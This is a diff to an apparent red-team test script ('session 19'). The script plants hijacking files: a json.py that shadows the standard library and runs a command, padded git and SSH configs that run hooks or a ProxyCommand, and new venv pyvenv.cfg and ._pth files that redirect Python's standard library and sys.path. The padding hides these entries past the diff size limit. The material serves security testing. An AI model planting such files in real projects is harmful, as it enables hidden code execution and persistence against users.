@@ -7,6 +7,10 @@
 # shadowing an installed one, a module in the working directory shadowing
 # the standard library's json; and a git and an SSH configuration whose
 # command key comes after 2 KB of comment (past the KiB the diff kept).
+# And (red team, session 19) a venv's pyvenv.cfg whose home, after 2 KB
+# of comment, is a directory the program writes (every later start of
+# the venv's python takes its standard library from there), and a ._pth
+# file beside a python, which replaces its sys.path.
 import json
 import os
 import sys
@@ -42,4 +46,6 @@ w(H + "/.local/lib/python%d.%d/site-packages/six.py" % sys.version_info[:2], "im
 w("/work/json.py", "import os; os.system(%r)\n" % CMD)
 w(H + "/.gitconfig", "[user]\n\tname = Dana\n" + PAD + "[core]\n\thooksPath = /tmp/.h\n")
 w(H + "/.ssh/config", "Host *\n" + PAD + "  ProxyCommand sh -c '" + CMD + "'\n")
+w("/work/.venv/pyvenv.cfg", PAD + "home = /work/.venv/.cache/bin\ninclude-system-site-packages = true\n")
+w("/work/.venv/bin/python._pth", "/work/.venv/.cache/lib\nimport site\n")
 print("planted")
